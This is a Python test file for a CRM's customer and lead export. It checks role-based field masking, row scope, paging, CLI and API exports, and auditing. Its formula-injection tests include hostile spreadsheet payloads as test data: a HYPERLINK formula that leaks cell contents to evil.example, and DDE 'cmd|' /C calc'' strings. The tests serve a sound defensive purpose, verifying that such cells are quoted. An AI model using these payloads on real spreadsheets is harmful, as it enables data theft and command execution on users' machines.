"""Exports (issue 18: visibility "applied everywhere a field leaves the system … exports"), table-
driven like test_visibility_table.py: person × field × row scope through the customer and the lead
export (crm_core/services/export.py, read back from the CSV it writes), then CSV formula injection,
the keyset pages, `crm-bot export` (CliRunner through the root command) and GET
/api/v1/export/*.csv with personal tokens; on SQLite and PostgreSQL.

The world: zhang.wei's lead #L1 on customer A (every field set, a follow-up note naming a phone),
chen.jie's lead on customer B (south-industry), an unowned lead in the pool on customer C. The
config gives sales own + pool rows, the supervisor and steward their teams (liu.yang: south-
industry), finance and service every row with their own fields, the admin everything."""
from __future__ import annotations

import csv
import io
import itertools
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from bot.cli import cli
from bot.web import create_app
from cards.zh import halfwidth_marks
from crm_core.authz import Principal
from crm_core.db.models import AuditLog, Contact, Customer, Lead
from crm_core.export_files import csv_chunks, safe_text, write_xlsx
from crm_core.fieldcrypt import new_key, write_fields
from crm_core.services import export as export_service
from crm_core.services.activity import record_follow_up
from crm_core.services.api_tokens import create_token
from crm_core.services.assign import give_lead
from crm_core.services.capture import save_lead
from crm_core.services.export import export, export_rows
from crm_core.services.lead_input import LeadInput
from crm_core.visibility import Viewer
from tests.integration.test_visibility_table import FIELDS, LEVELS
from tests.integration.test_visibility_table import VISIBILITY as TABLE_VISIBILITY
from tests.helpers.visibility_config import config_with as visibility_config

KEY = new_key()
# test_visibility_table.py's roles, supervisors and stewards narrowed to their teams (the scope table)
VISIBILITY = {**TABLE_VISIBILITY, "roles": {**TABLE_VISIBILITY["roles"], "supervisor": {"scope": ["team"]},
                                            "steward": {"scope": ["team"]}}}
NOTE = "客户说下周三前给答复,联系13900001111"
NOTE_MASKED = "客户说下周三前给答复,联系139****1111"
BANK, ID_NUMBER = "6222020200112233445", "330102199001011234"


@pytest.fixture
def cfg():  # noqa: ANN201
    return visibility_config(VISIBILITY, {"CRM_BOT_FIELD_KEY": KEY})


@pytest.fixture
def world(runtime) -> dict[str, int]:  # noqa: ANN001
    now = runtime.clock()
    with runtime.db.uow() as s:
        a = save_lead(s, runtime.cfg, LeadInput(source="web_form", company="杭州优品电子商务有限公司", contact_name="李经理",
                                                phone="13900001111", budget_cny=500_000, industry="电商"),
                      actor="api", platform="api", now=now).lead
        give_lead(s, a, runtime.cfg.org.rep("zhang.wei"), "east-medical", "测试分配", "system", now)
        a.details = {**(a.details or {}), "objection_category": "价格"}
        record_follow_up(s, a, "zhang.wei", "wecom", NOTE, now, runtime.cfg)
        customer = s.get_one(Customer, a.customer_id)
        customer.extra = write_fields(runtime.cfg, customer.extra, {
            "pain_points": "交期长", "complaint": "发货慢两次", "bank_account": BANK, "id_number": ID_NUMBER})
        b = save_lead(s, runtime.cfg, LeadInput(source="expo", company="佛山顺达机械有限公司", contact_name="吴总",
                                                phone="13700002222", budget_cny=2_000_000),
                      actor="api", platform="api", now=now).lead
        give_lead(s, b, runtime.cfg.org.rep("chen.jie"), "south-industry", "测试分配", "system", now)
        c = save_lead(s, runtime.cfg, LeadInput(source="ads", company="宁波海曙贸易有限公司", contact_name="钱经理",
                                                phone="13600003333", budget_cny=80_000),
                      actor="api", platform="api", now=now).lead
        return {"A": a.customer_id, "B": b.customer_id, "C": c.customer_id, "L1": a.id, "L2": b.id, "L3": c.id}


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith("\ufeff".encode()), data[:20]
    return list(csv.DictReader(io.StringIO(data.decode("utf-8").removeprefix("\ufeff"))))


def export_csv(runtime, who: str, kind: str, page: int | None = None) -> list[dict[str, str]]:  # noqa: ANN001
    viewer = Viewer.of(runtime.cfg, Principal.of(runtime.cfg.org.rep(who)))
    run = export(runtime.db, kind, viewer, actor="test", platform="cli", fmt="csv", clock=runtime.clock, page=page)
    return read_csv(b"".join(csv_chunks(run.header, run.rows)))


# ---- the table: person → level of each field (test_visibility_table.py's); field → (column, kind, visible
# cell, masked cell) -----
SHOWN: dict[str, list[tuple[str, str, str, str]]] = {
    "budget": [("customers", "在谈预算（元）", "500000", "10万–50万"), ("leads", "预算（元）", "500000", "10万–50万")],
    "pain_points": [("customers", "痛点", "交期长", "***"), ("leads", "痛点", "价格", "***")],
    "phone": [("customers", "电话", "13900001111", "139****1111"), ("leads", "电话", "13900001111", "139****1111")],
    "notes": [("leads", "最近跟进", NOTE, "***")],
    "owner": [("customers", "负责人", "张伟", "***"), ("leads", "负责人", "张伟", "***")],
    "complaint": [("customers", "投诉摘要", "发货慢两次", "***")],
    "bank_account": [("customers", "银行账号", BANK, "*" * 15 + "3445")],
    "id_number": [("customers", "证件号", ID_NUMBER, "*" * 14 + "1234")],
}
CASES = [(who, f, kind, column, visible, masked) for who in LEVELS for f in FIELDS
         for kind, column, visible, masked in SHOWN[f]]


@pytest.mark.parametrize(("who", "field", "kind", "column", "visible", "masked"), CASES,
                         ids=[f"{c[0]}-{c[1]}-{c[2]}" for c in CASES])
def test_field_levels_in_the_export(runtime, world, who: str, field: str, kind: str, column: str,  # noqa: ANN001
                                    visible: str, masked: str) -> None:
    rows = export_csv(runtime, who, kind)
    key = "客户编号" if kind == "customers" else "线索编号"
    mine = next(r for r in rows if r[key] == (f"C{world['A']}" if kind == "customers" else f"#{world['L1']}"))
    level = LEVELS[who][field]
    if level == "hidden":
        assert column not in mine, mine                       # the column is not in the file at all
        return
    want = visible if level == "visible" else masked
    if field == "notes" and LEVELS[who]["phone"] != "visible":
        want = NOTE_MASKED if level == "visible" else masked
    assert mine[column] == want, (column, mine)
    if level == "masked":
        assert visible not in ",".join(mine.values()), mine    # never the figure in another column


def test_finance_gets_amounts_but_no_pain_points_nor_notes(runtime, world) -> None:  # noqa: ANN001
    for kind in ("customers", "leads"):
        rows = export_csv(runtime, "sun.li", kind)
        assert len(rows) == 3
        text = "\n".join(",".join(r.values()) for r in rows)
        assert "500000" in text and "2000000" in text and "80000" in text, text
        assert "价格" not in text and "交期长" not in text and "下周三" not in text, text
        assert "痛点" not in rows[0] and "最近跟进" not in rows[0]


# ---- row scope ------------------------------------------------------------------------------
SCOPE = {  # person → (customers, leads) in their export
    "zhang.wei": ({"A", "C"}, {"L1", "L3"}),       # own + pool
    "li.na": ({"C"}, {"L3"}),                      # own (none) + pool: not her teammate's
    "chen.jie": ({"B", "C"}, {"L2", "L3"}),
    "liu.yang": ({"B"}, {"L2"}),                   # supervisor/steward of south-industry: team
    "wang.fang": ({"A", "B", "C"}, {"L1", "L2", "L3"}),
    "sun.li": ({"A", "B", "C"}, {"L1", "L2", "L3"}),
    "zhou.qi": ({"A", "B", "C"}, {"L1", "L2", "L3"}),
}


@pytest.mark.parametrize("who", list(SCOPE))
def test_rows_follow_the_scope(runtime, world, who: str) -> None:  # noqa: ANN001
    customers, leads = SCOPE[who]
    got = {r["客户编号"] for r in export_csv(runtime, who, "customers")}
    assert got == {f"C{world[k]}" for k in customers}
    got = {r["线索编号"] for r in export_csv(runtime, who, "leads")}
    assert got == {f"#{world[k]}" for k in leads}


def test_a_phone_in_full_only_on_rows_the_policy_allows(runtime, world) -> None:  # noqa: ANN001
    """zhang.wei's phone level is visible, but the pool lead is not his: masked there."""
    rows = {r["线索编号"]: r for r in export_csv(runtime, "zhang.wei", "leads")}
    assert rows[f"#{world['L1']}"]["电话"] == "13900001111"
    assert rows[f"#{world['L3']}"]["电话"] == "136****3333"
    assert rows[f"#{world['L3']}"]["负责人"] == "" and rows[f"#{world['L3']}"]["状态"] == "跟进中"


# ---- formula injection ------------------------------------------------------------------------
@pytest.mark.parametrize(("text", "guarded"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"点我")', True), ("+cmd|' /C calc'!A0", True),
    ("-2+3+cmd|' /C calc'!A0", True), ("@SUM(1+1)*cmd|' /C calc'!A0", True), ("\t=1+1", True),
    ("＝1+1", True), ("+447911123456", False), ("+44 (0)20 7946-0018", False), ("+447****3456", False),
    ("-1200", False), ("杭州优品", False), ("a=b", False), ("", False)])
def test_formula_cells_are_quoted_but_phones_stay_readable(text: str, guarded: bool) -> None:
    assert safe_text(text) == ("'" + text if guarded else text)


def test_injection_through_the_export(runtime, world, tmp_path: Path) -> None:  # noqa: ANN001
    evil = '=HYPERLINK("http://evil.example","点我")'
    with runtime.db.uow() as s:
        customer = s.get_one(Customer, world["A"])
        customer.name = evil
        contact = s.scalars(select(Contact).where(Contact.customer_id == world["A"])).one()
        contact.name, contact.phone = "@SUM(1+1)", "+447911123456"
        s.get_one(Lead, world["L1"]).title = "-2+3+cmd|' /C calc'!A0"
    rows = {r["客户编号"]: r for r in export_csv(runtime, "wang.fang", "customers")}
    row = rows[f"C{world['A']}"]
    assert (row["客户名称"], row["联系人"], row["电话"]) == ("'" + evil, "'@SUM(1+1)", "+447911123456")
    lead = {r["线索编号"]: r for r in export_csv(runtime, "wang.fang", "leads")}[f"#{world['L1']}"]
    assert lead["线索名称"] == "'-2+3+cmd|' /C calc'!A0" and lead["客户名称"] == "'" + evil
    masked = {r["客户编号"]: r for r in export_csv(runtime, "sun.li", "customers")}[f"C{world['A']}"]
    assert masked["电话"] == "+447****3456"              # a masked foreign phone: as it is
    # xlsx: every text a string cell (never a formula), the value untouched, Excel's quote prefix
    from openpyxl import load_workbook
    viewer = Viewer.of(runtime.cfg, Principal.of(runtime.cfg.org.rep("wang.fang")))
    run = export(runtime.db, "customers", viewer, actor="test", platform="cli", fmt="xlsx", clock=runtime.clock)
    write_xlsx(tmp_path / "x.xlsx", "客户", run.header, run.rows)
    ws = load_workbook(tmp_path / "x.xlsx").active
    cells = {c.value: c for line in ws.iter_rows() for c in line}
    assert cells[evil].data_type == "s" and cells[evil].quotePrefix
    assert cells["+447911123456"].data_type == "s"
    assert cells[500000].data_type == "n"


# ---- pages --------------------------------------------------------------------------------------
def test_rows_come_a_page_at_a_time_in_id_order(runtime, world, monkeypatch) -> None:  # noqa: ANN001
    now = runtime.clock()
    with runtime.db.uow() as s:
        for i in range(4):
            save_lead(s, runtime.cfg, LeadInput(source="ads", company=f"测试公司{i}号有限公司", contact_name="王经理"),
                      actor="api", platform="api", now=now)
    calls: list[int] = []
    page_of = export_service._customer_page

    def spy(s, viewer, after, size):  # noqa: ANN001, ANN202
        calls.append(after)
        return page_of(s, viewer, after, size)
    monkeypatch.setattr(export_service, "_customer_page", spy)
    viewer = Viewer.of(runtime.cfg, Principal.of(runtime.cfg.org.rep("wang.fang")))
    rows = export_rows(runtime.db, "customers", viewer, now, page=3)
    first = next(rows)
    assert calls == [0], calls                               # nothing read past the first page yet
    rest = list(rows)
    assert len(calls) == 3 and calls[1] == world["C"] and calls[2] > calls[1], calls   # 3 + 3 + 1 rows
    ids = [first[0], *(r[0] for r in rest)]
    assert len(ids) == 7 and ids == sorted(ids, key=lambda x: int(str(x)[1:])), ids
    assert export_csv(runtime, "wang.fang", "customers", page=3) == export_csv(runtime, "wang.fang", "customers")


# ---- crm-bot export ---------------------------------------------------------------------------
def audits(runtime) -> list[tuple[str, str, str | None, dict[str, Any]]]:  # noqa: ANN001
    """The export audit rows: (actor, action, platform, detail)."""
    with runtime.db.uow() as s:
        return [(a.actor, a.action, a.platform, dict(a.detail)) for a in
                s.scalars(select(AuditLog).where(AuditLog.action.like("export.%")).order_by(AuditLog.id))]


def test_cli_exports_as_the_rep(runtime, world, tmp_path: Path) -> None:  # noqa: ANN001
    out = tmp_path / "customers.csv"
    res = CliRunner().invoke(cli, ["export", "customers", "--as", "zhang.wei", "-o", str(out)], obj=runtime)
    assert res.exit_code == 0, res.output
    assert "已按张伟的查看范围导出客户 2 行：" in res.output, res.output
    assert [halfwidth_marks(line) for line in res.output.splitlines() if halfwidth_marks(line)] == []
    rows = read_csv(out.read_bytes())
    assert {r["客户编号"] for r in rows} == {f"C{world['A']}", f"C{world['C']}"}
    assert "银行账号" not in rows[0] and "投诉摘要" not in rows[0]
    assert not list(tmp_path.glob("*.part"))
    assert audits(runtime) == [("cli", "export.customers", "cli",
                                {"rep": "zhang.wei", "rows": 2, "format": "csv", "complete": True})]
    trail = CliRunner().invoke(cli, ["audit", "--rep", "zhang.wei"], obj=runtime)
    line = next(x for x in trail.output.splitlines() if "导出客户" in x)
    assert "命令行" in line and "按张伟的查看范围导出 2 行（CSV）" in line, trail.output


def test_cli_xlsx_by_name_and_suffix(runtime, world, tmp_path: Path) -> None:  # noqa: ANN001
    from openpyxl import load_workbook
    out = tmp_path / "线索.xlsx"
    res = CliRunner().invoke(cli, ["export", "leads", "--as", "孙丽", "-o", str(out)], obj=runtime)
    assert res.exit_code == 0, res.output
    ws = load_workbook(out).active
    values = [[c.value for c in row] for row in ws.iter_rows()]
    head = values[0]
    assert ws.title == "线索" and "预算（元）" in head and "痛点" not in head and "最近跟进" not in head, head
    budgets = {row[head.index("线索编号")]: row[head.index("预算（元）")] for row in values[1:]}
    assert budgets[f"#{world['L2']}"] == 2_000_000 and len(budgets) == 3
    assert [a[3]["format"] for a in audits(runtime)] == ["xlsx"]


@pytest.mark.parametrize("args", [["--as", "nobody"], ["--as", ""]])
def test_cli_unknown_rep_writes_nothing(runtime, world, tmp_path: Path, args: list[str]) -> None:  # noqa: ANN001
    out = tmp_path / "x.csv"
    res = CliRunner().invoke(cli, ["export", "leads", *args, "-o", str(out)], obj=runtime)
    assert res.exit_code == 2, res.output
    assert "没有这个人" in res.output and "unknown rep" in res.output, res.output
    assert "没有这个人：「nobody」" in res.output or args[1] == "", res.output
    assert not list(tmp_path.iterdir()) and audits(runtime) == []


def test_cli_format_and_suffix_must_agree(runtime, tmp_path: Path) -> None:  # noqa: ANN001
    res = CliRunner().invoke(cli, ["export", "leads", "--as", "wang.fang", "--format", "csv", "-o",
                                   str(tmp_path / "x.xlsx")], obj=runtime)
    assert res.exit_code == 2 and "后缀不一致" in res.output, res.output
    assert not list(tmp_path.iterdir())


def test_cli_needs_as(runtime, tmp_path: Path) -> None:  # noqa: ANN001
    res = CliRunner().invoke(cli, ["export", "leads", "-o", str(tmp_path / "x.csv")], obj=runtime)
    assert res.exit_code == 2 and "--as" in res.output, res.output
    assert not list(tmp_path.iterdir())


def test_cli_departed_rep_is_refused(runtime, world, tmp_path: Path) -> None:  # noqa: ANN001
    reps = [r.model_copy(update={"availability": "departed"}) if r.id == "zhang.wei" else r
            for r in runtime.cfg.org.reps]
    runtime.apply_config(runtime.cfg.model_copy(update={"org": runtime.cfg.org.model_copy(update={"reps": reps})}))
    res = CliRunner().invoke(cli, ["export", "leads", "--as", "zhang.wei", "-o", str(tmp_path / "x.csv")],
                             obj=runtime)
    assert res.exit_code == 1 and "离职" in res.output, res.output
    assert not list(tmp_path.iterdir()) and audits(runtime) == []


# ---- GET /api/v1/export/*.csv -----------------------------------------------------------------
_tokens = itertools.count(1)


def bearer(runtime, rep_id: str) -> dict[str, str]:  # noqa: ANN001
    with runtime.db.uow() as s:
        token, _ = create_token(s, runtime.cfg, rep_id, name=f"导出{next(_tokens)}", now=runtime.clock())
    return {"Authorization": f"Bearer {token}"}


def test_api_export_with_a_personal_token(runtime, world) -> None:  # noqa: ANN001
    client = create_app(runtime).test_client()
    res = client.get("/api/v1/export/leads.csv", headers=bearer(runtime, "zhang.wei"))
    assert res.status_code == 200, res.get_data(as_text=True)[:300]
    assert res.mimetype == "text/csv" and "charset=utf-8" in res.headers["Content-Type"]
    disposition = res.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="leads-') and ".csv" in disposition
    assert "filename*=UTF-8''%E7%BA%BF%E7%B4%A2" in disposition, disposition       # 线索…
    rows = read_csv(res.get_data())
    assert {r["线索编号"] for r in rows} == {f"#{world['L1']}", f"#{world['L3']}"}
    assert audits(runtime) == [("zhang.wei", "export.leads", "api",
                                {"rep": "zhang.wei", "rows": 2, "format": "csv", "complete": True})]
    finance = read_csv(client.get("/api/v1/export/customers.csv", headers=bearer(runtime, "sun.li")).get_data())
    assert len(finance) == 3 and "痛点" not in finance[0] and finance[0]["电话"].count("*") == 4


def test_api_export_refusals(runtime, world) -> None:  # noqa: ANN001
    client = create_app(runtime).test_client()
    assert client.get("/api/v1/export/customers.csv").status_code == 401
    assert client.get("/api/v1/export/customers.csv", headers={"Authorization": "Bearer nope"}).status_code == 401
    auth = bearer(runtime, "zhang.wei")
    reps = [r.model_copy(update={"availability": "departed"}) if r.id == "zhang.wei" else r
            for r in runtime.cfg.org.reps]
    runtime.apply_config(runtime.cfg.model_copy(update={"org": runtime.cfg.org.model_copy(update={"reps": reps})}))
    res = client.get("/api/v1/export/leads.csv", headers=auth)
    assert res.status_code == 403 and "离职" in res.get_json()["message"], res.get_json()
    assert audits(runtime) == []


def test_api_admin_token_acting_for_a_rep(runtime, world) -> None:  # noqa: ANN001
    admin = runtime.cfg.app.api_tokens[0].get_secret_value()
    client = create_app(runtime).test_client()
    everything = read_csv(client.get("/api/v1/export/customers.csv",
                                     headers={"Authorization": f"Bearer {admin}"}).get_data())
    assert len(everything) == 3 and "银行账号" in everything[0]
    acting = client.get("/api/v1/export/customers.csv", headers={"Authorization": f"Bearer {admin}",
                                                                  "X-CRM-Rep": "li.na"})
    assert {r["客户编号"] for r in read_csv(acting.get_data())} == {f"C{world['C']}"}
    # the acting rep is the actor, as for every /api/v1 write made with X-CRM-Rep
    assert [(a[0], a[3]["rep"]) for a in audits(runtime)] == [("api", "api"), ("li.na", "li.na")]


def test_api_client_leaving_half_way_is_audited_as_unfinished(runtime, world, monkeypatch) -> None:  # noqa: ANN001
    monkeypatch.setattr(export_service, "PAGE", 1)
    monkeypatch.setattr("crm_core.export_files.CSV_CHUNK_ROWS", 1)
    res = create_app(runtime).test_client().get("/api/v1/export/leads.csv", headers=bearer(runtime, "wang.fang"),
                                                buffered=False)
    pieces = iter(res.response)
    assert next(pieces).startswith("\ufeff线索编号".encode())           # the header first
    assert next(pieces).startswith(f"#{world['L1']},".encode())        # one row
    res.close()
    [(_, _, _, detail)] = audits(runtime)
    assert detail["complete"] is False and detail["rows"] < 3, detail


# ---- the policy: Action.EXPORT -----------------------------------------------------------------
def test_the_policy_decides_who_exports(cfg) -> None:  # noqa: ANN001
    from crm_core.authz import API_TOKEN, Action, decide
    rep = Principal.of(cfg.org.rep("li.na"))
    integration = Principal("integration", "集成", frozenset({"rep"}), kind="api")
    assert decide(cfg, rep, Action.EXPORT) and decide(cfg, API_TOKEN, Action.EXPORT)
    assert not decide(cfg, Principal(rep.id, rep.name, rep.roles, "departed"), Action.EXPORT)
    refused = decide(cfg, integration, Action.EXPORT)
    assert not refused and "导出数据需要管理员权限" in refused.reason


def test_api_shared_token_for_a_non_admin_principal_is_refused(runtime, world, monkeypatch) -> None:  # noqa: ANN001
    import importlib
    api_module = importlib.import_module("bot.web.api")     # (bot.web's `api` is the blueprint)
    monkeypatch.setattr(api_module, "API_TOKEN", Principal("integration", "集成", frozenset({"rep"}), kind="api"))
    admin = runtime.cfg.app.api_tokens[0].get_secret_value()
    res = create_app(runtime).test_client().get("/api/v1/export/leads.csv",
                                                headers={"Authorization": f"Bearer {admin}"})
    assert res.status_code == 403 and "需要管理员权限" in res.get_json()["message"], res.get_json()
    assert audits(runtime) == []
